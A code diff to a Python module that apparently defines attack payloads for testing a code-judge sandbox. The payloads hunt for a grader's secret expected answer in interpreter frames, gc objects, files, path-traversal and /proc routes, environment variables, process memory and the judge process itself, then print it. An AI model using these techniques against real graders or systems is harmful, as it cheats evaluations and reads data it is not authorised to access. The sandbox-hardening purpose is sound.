@@ -1,24 +1,27 @@
-"""Attacks that look for the expected values, and would answer with them."""
+"""Attacks that look for the expected values, to answer with them."""
 
 from __future__ import annotations
 
-from .attack import Aim, Attack
+from .attack import ALL_KINDS, Aim, Attack
 
-_ALL = ("stdin", "function", "asserts")
 _FIND = """
 import re
+class Found(BaseException): pass
 def found(data):
     if isinstance(data, bytes):
         data = data.decode("latin-1")
     match = re.search(r"secret-[0-9a-f]{32}", data)
     if match:
         print(match[0])
-        return match[0]
+        raise Found(match[0])
 """
 _ASK = """
+secrets = []
 def f(x):
-    return look()
-look()
+    try: secrets or look()
+    except Found as found: secrets.append(found.args[0])
+    return secrets[0] if secrets else None
+f(0)
 """
 
 _FRAMES = """
@@ -28,9 +31,7 @@ def look():
     while frame:
         for space in (frame.f_locals, frame.f_globals, frame.f_builtins):
             for value in list(space.values()):
-                answer = found(repr(value)[:100000])
-                if answer:
-                    return answer
+                found(repr(value)[:100000])
         frame = frame.f_back
 """
 
@@ -39,12 +40,8 @@ import gc
 def look():
     for thing in gc.get_objects():
         if type(thing) in (dict, list, tuple, set):
-            try:
-                answer = found(repr(thing)[:100000])
-            except Exception:
-                continue
-            if answer:
-                return answer
+            try: found(repr(thing)[:100000])
+            except Exception: continue
 """
 
 _FILES = """
@@ -61,11 +58,9 @@ def look():
     for place in places:
         try:
             with open(place, "rb") as file:
-                answer = found(file.read(1 << 20))
+                found(file.read(1 << 20))
         except OSError:
             continue
-        if answer:
-            return answer
 """
 
 _LINKS = """
@@ -75,13 +70,13 @@ def look():
         try:
             make("@FILE@", "here")
             with open("here", "rb") as file:
-                return found(file.read())
+                found(file.read())
         except OSError:
             pass
     for path in ("../../../../../../../../@FILE@", "/proc/self/root@FILE@",
                  "/proc/@JUDGE@/root@FILE@"):
         try:
-            return found(open(path, "rb").read())
+            found(open(path, "rb").read())
         except OSError:
             pass
 """
@@ -89,15 +84,11 @@ def look():
 _ENVIRONMENT = """
 import ctypes, os
 def look():
-    answer = found(repr(dict(os.environ)))
-    if answer:
-        return answer
+    found(repr(dict(os.environ)))
     environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
     i = 0
     while environ[i]:
-        answer = found(environ[i])
-        if answer:
-            return answer
+        found(environ[i])
         i += 1
 """
 
@@ -111,11 +102,9 @@ def look():
                     low, high = (int(part, 16) for part in line.split()[0].split("-"))
                     try:
                         memory.seek(low)
-                        answer = found(memory.read(min(high - low, 1 << 26)))
+                        found(memory.read(min(high - low, 1 << 26)))
                     except OSError:
                         continue
-                    if answer:
-                        return answer
         except OSError:
             pass
 """
@@ -126,9 +115,7 @@ def look():
     arena = 1 << 20  # what the allocator takes at a time
     for thing in (look, [], {}, "text", 1 << 70, found, arena):
         base = id(thing) & ~0xFFF
-        answer = found(ctypes.string_at(base, 0x1000))
-        if answer:
-            return answer
+        found(ctypes.string_at(base, 0x1000))
 """
 
 _DESCRIPTORS = """
@@ -141,11 +128,9 @@ def look():
         except OSError:
             pass
         try:
-            answer = found(os.read(fd, 1 << 20))
+            found(os.read(fd, 1 << 20))
         except OSError:
             continue
-        if answer:
-            return answer
 """
 
 _OTHERS = """
@@ -161,9 +146,7 @@ def look():
         for low in range(id(look) & ~0xFFFF, (id(look) & ~0xFFFF) + (1 << 20), 1 << 16):
             remote = Vector(low, 1 << 16)
             if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
-                answer = found(buffer.raw)
-                if answer:
-                    return answer
+                found(buffer.raw)
 """
 
 _TRACE = """
@@ -183,13 +166,11 @@ while frame:
     frame = frame.f_back
 def look():
     for text in seen[-1000:]:
-        answer = found(text)
-        if answer:
-            return answer
+        found(text)
 """
 
 ATTACKS = tuple(
-    Attack(name, _FIND + source + _ASK, Aim.FORGE, _ALL)
+    Attack(name, _FIND + source + _ASK, Aim.FORGE, ALL_KINDS)
     for name, source in (
         ("looks in the frames above", _FRAMES),
         ("looks through all objects", _GC),
